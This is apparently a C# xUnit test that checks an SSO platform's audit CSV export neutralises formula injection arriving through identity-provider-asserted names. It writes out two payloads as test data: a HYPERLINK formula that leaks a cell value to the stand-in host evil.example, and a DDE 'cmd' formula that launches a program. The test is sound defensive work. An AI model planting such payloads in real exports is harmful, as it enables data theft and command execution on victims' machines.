using System.Text.Json;

namespace AccessPlatform.Tests;

public sealed partial class SsoTests
{
    /// <summary>
    /// CSV injection (OWASP): an IdP user asserts formulas as given name and surname; JIT provisioning stores them, and
    /// the Account Manager's audit export must hand them to the spreadsheet as text (a leading quote), not as a
    /// formula that runs when the file is opened. The list also shows the sign-in as "sso".
    /// </summary>
    [Fact]
    public async Task Attack_a_formula_in_an_idp_asserted_name_reaches_the_audit_csv_as_text()
    {
        var account = await ConfigureAccountAsync(jit: true);
        var email = $"csv-{Guid.NewGuid():N}"[..16] + "@jit.example.test";
        const string given = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")";
        const string surname = "+cmd|' /C calc'!A0";
        using var browser = platform.NewClient();
        await SignInAsync(browser, account, await MintAsync(account, await StartAsync(browser, account), "jit-" + email, email,
            givenName: given, surname: surname));
        var username = await UsernameAsync(browser);

        var users = await account.Admin.GetFromJsonAsync<JsonElement[]>($"/api/admin/users?search={username}");
        var user = Assert.Single(users!);
        Assert.Equal("sso", user.GetProperty("lastSignIn").GetProperty("method").GetString());
        var csv = await account.Admin.GetStringAsync($"/api/admin/audit/export?userId={user.GetProperty("id").GetGuid()}");

        // The name cell: quoted (it holds quotes and commas), starting with the neutralising apostrophe.
        var cell = "\"'" + $"{given} {surname}".Replace("\"", "\"\"") + "\"";
        Assert.Contains($",{username},{cell},", csv);
        Assert.DoesNotContain($",{given}", csv);
        Assert.DoesNotContain($",\"{given}", csv);
    }
}
